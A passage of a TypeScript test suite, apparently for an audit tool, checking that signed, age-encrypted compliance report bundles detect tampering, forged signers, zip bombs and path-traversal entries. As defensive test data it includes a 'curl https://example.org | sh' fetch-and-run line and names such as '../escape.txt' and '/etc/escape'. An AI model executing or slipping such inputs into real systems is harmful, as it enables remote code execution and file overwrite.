import { spawnSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, rename, rm, truncate, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import { generateIdentity, identityToRecipient } from 'age-encryption';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { sealChain } from '../../src/audit/seal/seal.ts';
import { canonicalJson } from '../../src/canonical-json.ts';
import { queryOne, queryRows } from '../../src/db/query.ts';
import { readSshKeyFile } from '../../src/keys/ssh-key.ts';
import { NAMESPACES, signSshsig } from '../../src/keys/sshsig.ts';
import { changeRegister } from '../../src/persons/change.ts';
import { bundleReport, makeBundle } from '../../src/reports/bundle.ts';
import { decisionsText } from '../../src/reports/bundle-content.ts';
import { checkEvidence } from '../../src/reports/bundle-evidence.ts';
import { checkParts, packBundle, sha256Of, unpackBundle } from '../../src/reports/bundle-format.ts';
import { checkTemplateSql } from '../../src/reports/bundle-templates.ts';
import { entryOf } from '../../src/reports/decision-entry.ts';
import { checkBundleFile, type Distributed, distributeReport, openBundle } from '../../src/reports/distribute.ts';
import { generateReport } from '../../src/reports/generate.ts';
import { parseModel } from '../../src/reports/read.ts';
import { redrawFinalPdf } from '../../src/reports/redraw.ts';
import { renderPdf } from '../../src/reports/render/pdf.ts';
import { TEMPLATES_FOLDER } from '../../src/reports/template.ts';
import { verifyBundle } from '../../src/reports/verify-bundle.ts';
import { approveReport, archiveReport, rejectReport, reviewReport, submitReport } from '../../src/reports/workflow.ts';
import { foundRegister, type Roster } from '../persons/roster.ts';
import { type TestContext, testContext } from '../support/context.ts';
import { useDatabase } from '../support/database.ts';
import { jsonVariants } from '../support/json-variants.ts';
import { runAll } from './control-fixtures.ts';

/** Tokens that outlived their end: exceptions of AC-07, so that there is an evidence file. */
const TWO_EXCEPTIONS = [
  `insert into security_confidential.users (id, username, email, password_hash, password_salt, account_status)
   values ('10000000-0000-4000-8000-000000000001', 'a', 'a@example.org', 'x', 'x', 'active')`,
  `insert into security_internal.jwt_tokens (user_id, token_hash, issued_at, expires_at)
   select '10000000-0000-4000-8000-000000000001', 'h' || n, '2025-01-01', '2025-01-02' from generate_series(1, 2) n`,
];
const EXCEPTIONS_PART = 'evidence/ac-07/exceptions.csv';

const db = useDatabase();
let ctx: TestContext;
let roster: Roster;
let folder: string;
let reportId: string;
let zip: Buffer;
let identity: string;
let identityFile: string;
let sent: Distributed;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'auditkeep-bundle-'));
  ctx = await testContext(db);
  roster = await foundRegister(ctx, folder);
  await runAll(db.admin, TWO_EXCEPTIONS);
  reportId = (await generateReport(ctx, { framework: 'sox', period: '2026-02' })).id;
  await submitReport(roster.as(ctx, 'preparer'), { reportId });
  await rejectReport(roster.as(ctx, 'reviewer'), { reportId, comment: 'AC-02: who is “svc-7”?' });
  await submitReport(roster.as(ctx, 'preparer'), { reportId, comment: 'a service account' });
  await reviewReport(roster.as(ctx, 'reviewer'), { reportId });
  await approveReport(roster.as(ctx, 'approver'), { reportId });
  zip = (await makeBundle(ctx, reportId)).zip;
  identity = await generateIdentity();
  identityFile = join(folder, 'identity.txt');
  await writeFile(identityFile, `# made for a test\n${identity}\n`);
  sent = await send(identity);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function send(to: string, outDir = join(folder, 'out')): Promise<Distributed> {
  return distributeReport(roster.as(ctx, 'approver'), {
    reportId,
    recipient: 'auditor@example.com',
    ageRecipient: await identityToRecipient(to),
    purpose: 'annual audit',
    outDir,
  });
}

const textOf = (name: string) => Buffer.from(unpackBundle(zip).get(name) ?? '').toString('utf8');

/** One template of a control stands for all: they are many and alike. */
const isAnotherTemplate = (name: string) => /^templates\/control-(?!ac-02)/.test(name);

/** Where a part's bytes are: after its name in the local header. */
function placeOf(name: string, bytes: Uint8Array): number {
  return zip.indexOf(Buffer.concat([Buffer.from(name), bytes])) + name.length;
}

/** Whether reading alone, before any signature, finds a change. */
function isSeen(changed: Buffer): boolean {
  try {
    return checkParts(changed, unpackBundle(changed)).length > 0;
  } catch {
    return true;
  }
}

/** The bundle with some parts changed, packed again as an insider with our code would. */
function repack(change: (parts: Map<string, Uint8Array>) => void): Buffer {
  const parts = new Map(unpackBundle(zip));
  parts.delete('manifest.json');
  parts.delete('digest.txt');
  change(parts);
  const report = z
    .object({
      version: z.number(),
      installationId: z.string(),
      versions: z.array(z.object({ reportHash: z.string() })),
    })
    .parse(JSON.parse(textOf('report.json')));
  const { version, installationId, versions } = report;
  return packBundle({ reportId, version, reportHash: versions[0]?.reportHash ?? '', installationId }, parts);
}

const reportShape = z.looseObject({ versions: z.array(z.looseObject({})) });
const reportJson = z.record(z.string(), z.json());

describe('making', () => {
  test('the same report gives the same bytes, in another time zone too', async () => {
    const before = process.env['TZ'];
    try {
      process.env['TZ'] = 'Pacific/Kiritimati';
      expect((await makeBundle(ctx, reportId)).sha256).toBe(sha256Of(zip));
    } finally {
      if (before === undefined) delete process.env['TZ'];
      else process.env['TZ'] = before;
    }
  });

  test('a report is bundled once approved, with the same bytes after archiving, and then no longer sent', async () => {
    const other = (await generateReport(ctx, { framework: 'gdpr', period: '2026-02' })).id;
    await submitReport(roster.as(ctx, 'preparer'), { reportId: other });
    await expect(makeBundle(ctx, other)).rejects.toMatchObject({ code: 'REPORT_NOT_APPROVED' });
    await reviewReport(roster.as(ctx, 'reviewer'), { reportId: other });
    await approveReport(roster.as(ctx, 'approver'), { reportId: other });
    const whole = await makeBundle(ctx, other);
    await archiveReport(roster.as(ctx, 'records'), { reportId: other, reason: 'withdrawn' });
    expect((await makeBundle(ctx, other)).sha256).toBe(whole.sha256);
    await expect(
      distributeReport(roster.as(ctx, 'approver'), {
        reportId: other,
        recipient: 'x',
        ageRecipient: await identityToRecipient(identity),
        purpose: 'y',
        outDir: join(folder, 'archived'),
      }),
    ).rejects.toMatchObject({ code: 'REPORT_NOT_APPROVED' });
    expect(await readdir(join(folder, 'archived'))).toEqual([]);
  });

  test('it verifies, says whose keys it trusts, and draws final.pdf again', async () => {
    const inside = await verifyBundle(zip, null);
    expect(inside).toMatchObject({ outcome: 'incomplete', signers: 'bundled', reportId, findings: [] });
    expect(inside.finalPdf).toBe('reproduced');
    expect(inside.decisions.map((decision) => decision.meaning)).toEqual([
      'submit',
      'reject',
      'submit',
      'review',
      'approve',
    ]);
    expect(await verifyBundle(zip, textOf('allowed_signers'))).toMatchObject({ valid: true, signers: 'given' });
  });

  test('the signers that came another way count, not those inside', async () => {
    const others = textOf('allowed_signers')
      .split('\n')
      .filter((line) => !line.startsWith('approver'))
      .join('\n');
    const check = await verifyBundle(zip, others);
    expect(check.valid).toBe(false);
    expect(check.findings).toContainEqual({
      part: 'decisions/05-approve.json',
      what: 'its key was not a valid key of its person',
    });
    await expect(verifyBundle(zip, 'approver@example.org cert-authority ssh-ed25519 AAAA')).rejects.toMatchObject({
      code: 'INPUT_INVALID',
    });
  });
});

describe('tampering', () => {
  test('one flipped byte in any part is named by that part', async () => {
    const parts = unpackBundle(zip);
    expect(parts.size).toBeGreaterThan(15);
    for (const [name, bytes] of parts) {
      if (isAnotherTemplate(name)) continue;
      const at = placeOf(name, bytes);
      for (const offset of [0, Math.floor(bytes.length / 2), bytes.length - 1]) {
        const flipped = Buffer.from(zip);
        flipped[at + offset] = (flipped[at + offset] ?? 0) ^ 1;
        const { valid, findings } = await verifyBundle(flipped, null);
        expect(valid, `${name} at ${offset}`).toBe(false);
        expect(
          findings.map((finding) => finding.part),
          `${name} at ${offset}`,
        ).toContain(name);
      }
    }
  });

  test('no byte of the container can change unseen', () => {
    const subject = { reportId, version: 1, reportHash: '0'.repeat(64), installationId: reportId };
    const small = packBundle(
      subject,
      new Map([
        ['model.json', Buffer.from('{}')],
        ['a.txt', Buffer.from('a')],
      ]),
    );
    expect(isSeen(small)).toBe(false);
    const unseen = Array.from({ length: small.length }, (_, index) => index).filter((index) => {
      const flipped = Buffer.from(small);
      flipped[index] = (flipped[index] ?? 0) ^ 1;
      return !isSeen(flipped);
    });
    expect(unseen).toEqual([]);
    expect(isSeen(Buffer.concat([small, Buffer.from('x')]))).toBe(true);
    expect(isSeen(Buffer.concat([Buffer.from('x'), small]))).toBe(true);
  });

  test.each([
    ['model.json', 'model.json'],
    ['review.pdf', 'review.pdf'],
    ['final.pdf', 'final.pdf'],
    ['decisions.json', 'decisions.json'],
    ['oscal/assessment-results.json', 'oscal/assessment-results.json'],
    ['oscal/poam.json', 'oscal/poam.json'],
    ['decisions/05-approve.json', 'decisions/05-approve.json'],
    ['decisions/05-approve.json.sig', 'decisions/05-approve.json'],
    ['decisions/02-reject.comment.txt', 'decisions/02-reject.json'],
  ])('a changed %s is found when manifest and digests were made anew', async (changed, named) => {
    const forged = repack((parts) => {
      const bytes = Buffer.from(parts.get(changed) ?? '');
      bytes[120 % bytes.length] = (bytes[120 % bytes.length] ?? 0) ^ 1;
      parts.set(changed, bytes);
    });
    const { valid, findings } = await verifyBundle(forged, null);
    expect(valid).toBe(false);
    // A text that is no longer canonical has lost its name.
    const names = findings.map((finding) => finding.part);
    expect(names.some((name) => name === named || (changed.endsWith('.json') && name === 'decisions'))).toBe(true);
  });

  test.each([
    ['generatedBy', 'somebody@example.org'],
    ['interim', true],
  ])('a %s in report.json that nobody signed is found', async (field, value) => {
    const forged = repack((parts) => {
      const report = reportShape.parse(JSON.parse(textOf('report.json')));
      const versions = report.versions.map((version) => ({ ...version, [field]: value }));
      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, versions })));
    });
    const { valid, findings } = await verifyBundle(forged, null);
    expect(valid).toBe(false);
    expect(findings.map(({ what }) => what)).toContain('it was signed for another report or version');
  });

  test('a name that its person did not sign is found, final.pdf drawn anew or not', async () => {
    const { decisions } = await verifyBundle(zip, null);
    const renamed = decisions.map((decision) => ({ ...decision, name: 'Somebody Else, CPA' }));
    const model = parseModel(Buffer.from(unpackBundle(zip).get('model.json') ?? ''));
    const finalPdf = await renderPdf(model, renamed.map(entryOf));
    const forged = repack((parts) => {
      parts.set('decisions.json', Buffer.from(decisionsText(renamed)));
      parts.set('final.pdf', finalPdf);
    });
    const { findings } = await verifyBundle(forged, null);
    expect(findings).toContainEqual({ part: 'decisions.json', what: 'is not the list of the signed decisions' });
  });

  test.each([
    ['opinion.pdf', '%PDF unqualified opinion'],
    ['decisions/09-second-approval.txt', 'approved twice'],
    ['decisions/99-approve.json.sig', 'x'],
    ['README.txt', 'curl https://example.org | sh'],
    ['allowed_signers', 'mallory@example.org ssh-ed25519 AAAA'],
  ])('a part %s that follows from nothing signed is found', async (name, text) => {
    const forged = repack((parts) => parts.set(name, Buffer.from(text)));
    const check = await verifyBundle(forged, textOf('allowed_signers'));
    expect(check.outcome).toBe('invalid');
    expect(check.findings.map(({ part }) => part)).toContain(name);
  });

  test('an allowed_signers of further keys, or of other times, is found', async () => {
    const list = textOf('allowed_signers');
    for (const other of [
      `${list}mallory${list.slice(list.indexOf('@'))}`,
      list.replace(/^officer1.*\n/m, ''),
      list.replaceAll('valid-after="2', 'valid-after="9'),
    ]) {
      const forged = repack((parts) => parts.set('allowed_signers', Buffer.from(other)));
      const { findings } = await verifyBundle(forged, list);
      expect(findings.map(({ part }) => part)).toEqual(['allowed_signers']);
    }
  });

  test('a version that nobody decided on is found in report.json', async () => {
    const forged = repack((parts) => {
      const report = reportShape.parse(JSON.parse(textOf('report.json')));
      const state = { status: 'draft', reviewedBy: null, approvedBy: null };
      const invented = { ...report.versions[0], ...state, version: 7, id: '11111111-1111-4111-8111-111111111111' };
      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, versions: [...report.versions, invented] })));
    });
    const { findings } = await verifyBundle(forged, textOf('allowed_signers'));
    expect(findings).toContainEqual({ part: 'report.json', what: 'lists a version that no decision is about' });
  });

  test('a final.pdf is not excused by a release that report.json alone names', async () => {
    const forged = repack((parts) => {
      const report = reportShape.parse(JSON.parse(textOf('report.json')));
      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, engineVersion: '0.0.9' })));
      parts.set('final.pdf', Buffer.from('%PDF-1.7 all controls pass'));
    });
    const check = await verifyBundle(forged, textOf('allowed_signers'));
    expect(check).toMatchObject({ valid: false, outcome: 'invalid' });
    expect(check.findings).toContainEqual({ part: 'report.json', what: 'states another engineVersion than the model' });
  });

  test('a final.pdf that was not drawn again is not shown to be right', async () => {
    const other = await verifyBundle(zip, textOf('allowed_signers'), 'another release');
    expect(other).toMatchObject({ valid: false, outcome: 'incomplete', finalPdf: 'not checked', findings: [] });
    expect(other.unchecked).toEqual([
      'final.pdf was not drawn again and may say anything',
      'the OSCAL documents were not made again and may say anything',
    ]);
  });

  test('an OSCAL document that is missing is found, and one beyond the two', async () => {
    const missing = repack((parts) => parts.delete('oscal/poam.json'));
    expect((await verifyBundle(missing, null)).findings).toEqual([{ part: 'oscal/poam.json', what: 'is missing' }]);
    const extra = repack((parts) => parts.set('oscal/catalog.json', Buffer.from('{}')));
    expect((await verifyBundle(extra, null)).findings).toContainEqual({
      part: 'oscal/catalog.json',
      what: 'is no part of a bundle',
    });
  });

  test('an evidence file that is missing, another one, or one too many is found', async () => {
    expect(textOf(EXCEPTIONS_PART).split('\r\n')).toHaveLength(4);
    const missing = repack((parts) => parts.delete(EXCEPTIONS_PART));
    expect((await verifyBundle(missing, null)).findings).toEqual([{ part: EXCEPTIONS_PART, what: 'is missing' }]);
    const other = repack((parts) => parts.set(EXCEPTIONS_PART, Buffer.from(`${textOf(EXCEPTIONS_PART)}"P-1"\r\n`)));
    expect((await verifyBundle(other, null)).findings).toEqual([
      { part: EXCEPTIONS_PART, what: 'does not have the hash of the model' },
    ]);
    for (const part of ['evidence/ac-01/exceptions.csv', 'evidence/ac-07/more.csv']) {
      const extra = repack((parts) => parts.set(part, Buffer.from('')));
      expect((await verifyBundle(extra, null)).findings).toContainEqual({ part, what: 'is no part of a bundle' });
    }
  });

  test('a model that says of its exceptions what their file does not is found, whoever signed it', () => {
    const parts = unpackBundle(zip);
    const model = parseModel(Buffer.from(textOf('model.json')));
    const findingsOf = (change: (exceptions: Exceptions) => Exceptions) => {
      const controls = model.controls.map((control) =>
        control.id === 'ac-07' ? { ...control, exceptions: change(control.exceptions) } : control,
      );
      const bytes = Buffer.from(canonicalJson({ ...model, controls }));
      return checkEvidence(new Map([...parts, ['model.json', bytes]]), sha256Of(bytes)).findings;
    };
    type Exceptions = (typeof model.controls)[number]['exceptions'];
    const evidence = model.controls.find(({ id }) => id === 'ac-07')?.exceptions.evidence ?? null;
    if (evidence === null) throw new Error('AC-07 has no evidence');
    expect(findingsOf((same) => same)).toEqual([]);
    const sampled = model.controls.map((control) => {
      const { sample } = control.ipe;
      if (control.id !== 'ac-07' || sample === null) return control;
      return { ...control, ipe: { ...control.ipe, sample: { ...sample, keys: sample.keys.slice(1) } } };
    });
    const bytes = Buffer.from(canonicalJson({ ...model, controls: sampled }));
    expect(checkEvidence(new Map([...parts, ['model.json', bytes]]), sha256Of(bytes)).findings).toEqual([
      { part: 'model.json', what: 'says of the sample of ac-07 what their file does not' },
    ]);
    for (const change of [
      (all: Exceptions) => ({ ...all, count: 3 }),
      (all: Exceptions) => ({ ...all, rows: [...all.rows].reverse() }),
      (all: Exceptions) => ({ ...all, columns: all.columns.slice(1) }),
      (all: Exceptions) => ({ ...all, evidence: null }),
      (all: Exceptions) => ({ ...all, evidence: { ...evidence, bytes: evidence.bytes + 1 } }),
      (all: Exceptions) => ({ ...all, count: 3, evidence: { ...evidence, rows: 3 } }),
      (all: Exceptions) => ({ ...all, evidence: { ...evidence, columns: ['x'] } }),
    ]) {
      expect(findingsOf(change)).toEqual([
        { part: 'model.json', what: 'says of the exceptions of ac-07 what their file does not' },
      ]);
    }
  });

  test('a template that is missing, another one, or asks something else than the model says is found', async () => {
    const part = 'templates/control-ac-02.yaml';
    const find = async (change: (parts: Map<string, Uint8Array>) => void) =>
      (await verifyBundle(repack(change), null)).findings;
    expect(await find((parts) => parts.delete(part))).toContainEqual({ part, what: 'is missing' });
    const other = Buffer.from(textOf('templates/control-ac-01.yaml'));
    const what = 'does not have the hash of the model';
    expect(await find((parts) => parts.set(part, other))).toContainEqual({ part, what });
    const changed = Buffer.from(
      textOf('model.json').replace(/"populationSqlSha256":"[0-9a-f]{64}"/, `"populationSqlSha256":"${'0'.repeat(64)}"`),
    );
    const parts = new Map(unpackBundle(zip)).set('model.json', changed);
    expect(checkTemplateSql(unpackBundle(zip))).toEqual([]);
    expect(checkTemplateSql(parts)).toEqual([
      { part: 'model.json', what: 'says of the SQL of ac-01 what its template does not' },
    ]);
    parts.set(part, Buffer.from('no: template'));
    expect(checkTemplateSql(parts)).toHaveLength(2);
    expect(textOf('templates/framework-sox.yaml')).toContain('id: sox');
    expect(textOf(part)).toBe(await readFile(join(TEMPLATES_FOLDER, 'controls', 'ac-02.yaml'), 'utf8'));
  });

  test('many entries on the same bytes are refused before anything is read', () => {
    const one = zipSync({ 'model.json': Buffer.alloc(1000) }, { level: 0 });
    const directory = one.subarray(one.length - 22 - 56, one.length - 22);
    const entries = Array.from({ length: 50 }, (_, index) => {
      const entry = Buffer.from(directory);
      entry.write(String.fromCharCode(97 + (index % 26)), 46);
      return entry;
    });
    const end = Buffer.from(one.subarray(one.length - 22));
    end.writeUInt16LE(50, 8);
    end.writeUInt16LE(50, 10);
    end.writeUInt32LE(50 * 56, 12);
    const bomb = Buffer.concat([one.subarray(0, one.length - 22 - 56), ...entries, end]);
    expect(() => unpackBundle(bomb)).toThrow(/larger than the file/);
  });

  test('a file that is too large is not read', async () => {
    const file = join(folder, 'huge.zip');
    await writeFile(file, '');
    await truncate(file, 2 ** 29 + 1);
    const checked = checkBundleFile({ file, identityFile: null, signersFile: null });
    await expect(checked).rejects.toMatchObject({ code: 'INPUT_INVALID' });
  });

  test('a missing decision and a part too many are found', async () => {
    const without = repack((parts) => {
      for (const name of [...parts.keys()]) if (name.includes('04-review')) parts.delete(name);
    });
    expect((await verifyBundle(without, null)).valid).toBe(false);
    const entries = Object.fromEntries(unpackBundle(zip));
    const more = zipSync({ ...entries, 'extra.txt': Buffer.from('x') }, { level: 0, mtime: new Date(1980, 0, 1) });
    expect((await verifyBundle(more, null)).findings).toContainEqual({
      part: 'extra.txt',
      what: 'is not listed in digest.txt',
    });
  });

  test.each([
    ['../escape.txt'],
    ['/etc/escape'],
    ['decisions/../../escape'],
    ['a\\b'],
    ['C:escape'],
    ['.hidden'],
    ['decisions/'],
  ])('a part named %s is refused', (name) => {
    const hostile = zipSync({ [name]: Buffer.from('x') }, { level: 0 });
    expect(() => unpackBundle(hostile)).toThrow(expect.objectContaining({ code: 'BUNDLE_INVALID' }));
  });

  test('a compressed part and what is no zip are refused', () => {
    const bomb = zipSync({ 'model.json': Buffer.alloc(1_000_000) }, { level: 9 });
    expect(() => unpackBundle(bomb)).toThrow(/compressed/);
    expect(() => unpackBundle(Buffer.from('hello'))).toThrow(expect.objectContaining({ code: 'BUNDLE_INVALID' }));
    expect(() => unpackBundle(zip.subarray(0, zip.length - 30))).toThrow(/not a bundle/);
  });
});

describe('distribution', () => {
  test('it is logged, the recipient is appended, the time is set once', async () => {
    const read = () =>
      db.engine.withClient(async (client) => ({
        report: await queryOne(
          client,
          z.object({ recipients: z.array(z.string()), distributed_at: z.string() }),
          'select recipients, distributed_at from audit.compliance_reports where id = $1::uuid',
          [reportId],
        ),
        log: await queryRows(
          client,
          z.object({ recipient: z.string(), purpose: z.string(), sha256: z.string(), email: z.string() }),
          `select d.recipient, d.purpose, d.sha256, p.email from compliance.distribution d
             join compliance.person p on p.id = d.distributed_by where d.report_id = $1::uuid order by d.distributed_at`,
          [reportId],
        ),
      }));
    const first = await read();
    expect(first.report.recipients).toEqual(['auditor@example.com']);
    expect(first.log[0]).toEqual({
      recipient: 'auditor@example.com',
      purpose: 'annual audit',
      sha256: sent.sha256,
      email: 'approver@example.org',
    });
    const again = await send(await generateIdentity());
    const second = await read();
    expect(second.report).toEqual(first.report);
    expect(second.log.map((entry) => entry.sha256)).toEqual([sent.sha256, again.sha256]);
    expect(again.bundleSha256).toBe(sent.bundleSha256);
  });

  test('a file has its name only once it is in the log; what a crash left is settled by the log', async () => {
    const outDir = dirname(sent.path);
    await rename(sent.path, `${sent.path}.part`);
    const never = join(outDir, `report-${reportId}-00000000.zip.age.part`);
    const young = join(outDir, `report-${reportId}-11111111.zip.age.part`);
    for (const path of [never, young]) await writeFile(path, path);
    const hours = (n: number) => new Date(ctx.clock.now() - n * 3_600_000);
    await utimes(never, hours(2), hours(2));
    await utimes(young, hours(0.5), hours(0.5));
    const other = await send(identity);
    const left = await readdir(outDir);
    expect(left).toEqual(expect.arrayContaining([sent.path, other.path, young].map((path) => basename(path))));
    expect(left.filter((name) => name.endsWith('.part'))).toEqual([basename(young)]);
    await rm(young);
  });

  test('a connection lost at the commit leaves a part, neither a file nor nothing', async () => {
    const outDir = join(folder, 'lost');
    await db.admin.withClient((client) =>
      client.query(`create function compliance.cut() returns trigger language plpgsql as
        'begin perform pg_terminate_backend(pg_backend_pid()); return null; end';
        create constraint trigger cut after insert on compliance.distribution deferrable initially deferred
          for each row execute function compliance.cut();
        alter function compliance.cut() security definer`),
    );
    const lost = send(identity, outDir);
    await expect(lost).rejects.toThrow();
    expect((await readdir(outDir)).map((name) => name.replace(/-[0-9a-f]{8}\./, '-N.'))).toEqual([
      `report-${reportId}-N.zip.age.part`,
    ]);
    await db.admin.withClient((client) => client.query('drop function compliance.cut() cascade'));
    const after = await send(identity, outDir);
    // The part may be that of somebody who is still at work.
    expect((await readdir(outDir)).filter((name) => name.endsWith('.age'))).toEqual([basename(after.path)]);
  });

  test('the recipient opens it, nobody else does', async () => {
    const outDir = join(folder, 'opened');
    const check = await openBundle({ file: sent.path, identityFile, signersFile: null, outDir });
    expect(check).toMatchObject({ outcome: 'incomplete', findings: [], reportId });
    expect(await readFile(join(outDir, 'model.json'), 'utf8')).toBe(textOf('model.json'));
    await expect(openBundle({ file: sent.path, identityFile, signersFile: null, outDir })).rejects.toMatchObject({
      code: 'INPUT_INVALID',
    });
    const strange = join(folder, 'strange.txt');
    await writeFile(strange, await generateIdentity());
    for (const wrong of [strange, null]) {
      const opened = openBundle({
        file: sent.path,
        identityFile: wrong,
        signersFile: null,
        outDir: join(folder, 'no'),
      });
      await expect(opened).rejects.toMatchObject({ code: 'BUNDLE_IDENTITY' });
    }
  });

  test('a flipped byte of the encrypted file is found and nothing is unpacked', async () => {
    const whole = await readFile(sent.path);
    const path = join(folder, 'flipped.age');
    for (const at of [300, Math.floor(whole.length / 2), whole.length - 1]) {
      const flipped = Buffer.from(whole);
      flipped[at] = (flipped[at] ?? 0) ^ 1;
      await writeFile(path, flipped);
      const outDir = join(folder, 'flipped');
      const opened = openBundle({ file: path, identityFile, signersFile: null, outDir });
      await expect(opened).rejects.toMatchObject({ code: 'BUNDLE_INVALID' });
      await expect(readdir(outDir)).rejects.toMatchObject({ code: 'ENOENT' });
    }
  });

  test('nobody distributes in the name of another', async () => {
    const input = {
      reportId,
      recipient: 'x',
      ageRecipient: await identityToRecipient(identity),
      purpose: 'y',
      outDir: join(folder, 'borrowed'),
    };
    const as = (keyFile: string | null) => ({
      ...ctx,
      actor: { kind: 'person', email: 'approver@example.org', keyFile } as const,
    });
    await expect(distributeReport(as(null), input)).rejects.toMatchObject({ code: 'USAGE' });
    const borrowed = distributeReport(as(roster.keyFile('reviewer')), input);
    await expect(borrowed).rejects.toMatchObject({ code: 'PERSON_KEY_INVALID' });
  });

  test('a recipient that is no age key, and a person without a role, are refused and leave no file', async () => {
    const outDir = join(folder, 'refused');
    const input = { reportId, recipient: 'x', ageRecipient: 'age1nonsense', purpose: 'y', outDir };
    await expect(distributeReport(roster.as(ctx, 'approver'), input)).rejects.toMatchObject({ code: 'INPUT_INVALID' });
    const real = { ...input, ageRecipient: await identityToRecipient(identity) };
    await expect(distributeReport(roster.as(ctx, 'officer1'), real)).rejects.toMatchObject({ code: 'ROLE_MISSING' });
    expect(await readdir(outDir)).toEqual([]);
  });
});

describe('stock tools', () => {
  const has = (tool: string, flag: string) => spawnSync(tool, [flag]).error === undefined;

  test.skipIf(!has('age', '--version'))('age -d opens the file (age must be installed)', () => {
    const result = spawnSync('age', ['-d', '-i', identityFile, sent.path], { maxBuffer: 1 << 26 });
    expect(result.status).toBe(0);
    expect(sha256Of(result.stdout)).toBe(sent.bundleSha256);
  });

  test.skipIf(!has('unzip', '-v') || !has('sha256sum', '--version'))(
    'unzip, sha256sum -c and the commands of README.txt pass, and fail on a change (they must be installed)',
    async () => {
      const { path } = await bundleReport(ctx, { reportId, outDir: join(folder, 'stock') });
      expect(await checkBundleFile({ file: path, identityFile: null, signersFile: null })).toMatchObject({
        findings: [],
      });
      const cwd = join(folder, 'stock', 'unpacked');
      expect(spawnSync('unzip', ['-q', path, '-d', cwd]).status).toBe(0);
      const run = (command: string) => spawnSync('sh', ['-c', command], { cwd, encoding: 'utf8' });
      expect(run('sha256sum -c --strict digest.txt').status).toBe(0);
      const commands = (await readFile(join(cwd, 'README.txt'), 'utf8')).match(/ssh-keygen[^\n]*\\\n[^\n]*/g) ?? [];
      // Five decisions and the two signatures of the founding act.
      expect(commands).toHaveLength(7);
      if (has('ssh-keygen', '-?')) for (const command of commands) expect(run(command).stdout).toContain('Good "');
      await writeFile(join(cwd, 'decisions', '05-approve.json'), textOf('decisions/05-approve.json').replace('1', '2'));
      expect(run('sha256sum -c --strict digest.txt').status).toBe(1);
      if (has('ssh-keygen', '-?')) expect(run(commands[4] ?? '').status).not.toBe(0);
    },
  );
});

describe('the register in a bundle', () => {
  const list = () => textOf('allowed_signers');

  /** The founding act with its changes altered and signed again by the officers, as they alone could. */
  async function refound(change: (act: z.infer<typeof actShape>) => void): Promise<Map<string, Buffer>> {
    const act = actShape.parse(JSON.parse(textOf('register/0001.json')));
    change(act);
    const payload = Buffer.from(canonicalJson(reportJson.parse(act)));
    const files = new Map([['register/0001.json', payload]]);
    for (const [index, officer] of ['officer1', 'officer2'].entries()) {
      const signature = await signSshsig(await readSshKeyFile(roster.keyFile(officer)), NAMESPACES.person, payload);
      files.set(`register/0001.json.${index + 1}.sig`, Buffer.from(signature));
    }
    return files;
  }
  const actShape = z.looseObject({ changes: z.array(z.looseObject({ kind: z.string(), email: z.string() })) });

  test('shows the roles to whoever knows the founders, and says so to others', async () => {
    expect(await verifyBundle(zip, list())).toMatchObject({ roles: 'given', outcome: 'valid' });
    expect(await verifyBundle(zip, null)).toMatchObject({ roles: 'bundled', outcome: 'incomplete' });
    const deciders = list().replace(/^officer.*\n/gm, '');
    expect(await verifyBundle(zip, deciders)).toMatchObject({
      roles: 'bundled',
      outcome: 'incomplete',
      signers: 'given',
    });
  });

  test('cannot be left out unseen', async () => {
    const forged = repack((parts) => {
      for (const name of [...parts.keys()]) if (name.startsWith('register/')) parts.delete(name);
    });
    const check = await verifyBundle(forged, list());
    expect(check).toMatchObject({ valid: false, roles: 'not checked' });
  });

  test.each([
    ['register/0001.json', 'register/0001.json'],
    ['register/0001.json.2.sig', 'register/0001.json'],
  ])('a changed %s is found when manifest and digests were made anew', async (changed, named) => {
    const forged = repack((parts) => {
      const bytes = Buffer.from(parts.get(changed) ?? '');
      bytes[200] = (bytes[200] ?? 0) ^ 1;
      parts.set(changed, bytes);
    });
    const { findings, roles } = await verifyBundle(forged, list());
    expect(findings.map(({ part }) => part)).toContain(named);
    expect(roles).toBe('bundled');
  });

  test('a decider who had another role is found', async () => {
    const files = await refound((act) => {
      act.changes = act.changes.filter((entry) => entry.email !== 'approver@example.org' || entry.kind !== 'role');
    });
    const forged = repack((parts) => {
      for (const [name, bytes] of files) parts.set(name, bytes);
    });
    const { findings } = await verifyBundle(forged, list());
    expect(findings).toContainEqual({ part: 'decisions/05-approve.json', what: 'its person was no approver' });
  });

  test('a key that the register does not give to its decider is found', async () => {
    const files = await refound((act) => {
      act.changes = act.changes.filter((entry) => entry.email !== 'approver@example.org' || entry.kind !== 'key');
    });
    const forged = repack((parts) => {
      for (const [name, bytes] of files) parts.set(name, bytes);
    });
    const { findings } = await verifyBundle(forged, list());
    expect(findings).toContainEqual({
      part: 'decisions/05-approve.json',
      what: 'its key was not a valid key of its person',
    });
  });

  test('a register of another name, or another installation, is found', async () => {
    const named = await refound((act) => {
      for (const entry of act.changes) if (entry.kind === 'person') entry['name'] = 'Somebody Else';
    });
    const moved = await refound((act) => {
      act['installation_id'] = '11111111-1111-4111-8111-111111111111';
    });
    for (const [files, what] of [
      [named, 'its person has another name'],
      [moved, 'does not hold: act 1: it belongs to another installation'],
    ] as const) {
      const forged = repack((parts) => {
        for (const [name, bytes] of files) parts.set(name, bytes);
      });
      expect((await verifyBundle(forged, list())).findings.map((finding) => finding.what)).toContain(what);
    }
  });

  test('a part beside the acts is found', async () => {
    const forged = repack((parts) => parts.set('register/0001.json.9.sig', Buffer.from('x')));
    const { findings } = await verifyBundle(forged, list());
    expect(findings).toContainEqual({ part: 'register/0001.json.9.sig', what: 'is no part of a bundle' });
  });

  test('a list of compromised keys that only reads the same when it is joined is another list', async () => {
    const report = reportShape.parse(JSON.parse(textOf('report.json')));
    expect(report['compromisedKeys']).toEqual([]);
    const text = canonicalJson(reportJson.parse({ ...report, compromisedKeys: [''] }));
    const { findings } = await verifyBundle(
      repack((parts) => parts.set('report.json', Buffer.from(text))),
      list(),
    );
    expect(findings).toContainEqual({ part: 'report.json', what: 'names other compromised keys than the register' });
  });

  test('a model that its own release cannot draw is told, not thrown', async () => {
    const model = reportJson.parse(JSON.parse(textOf('model.json')));
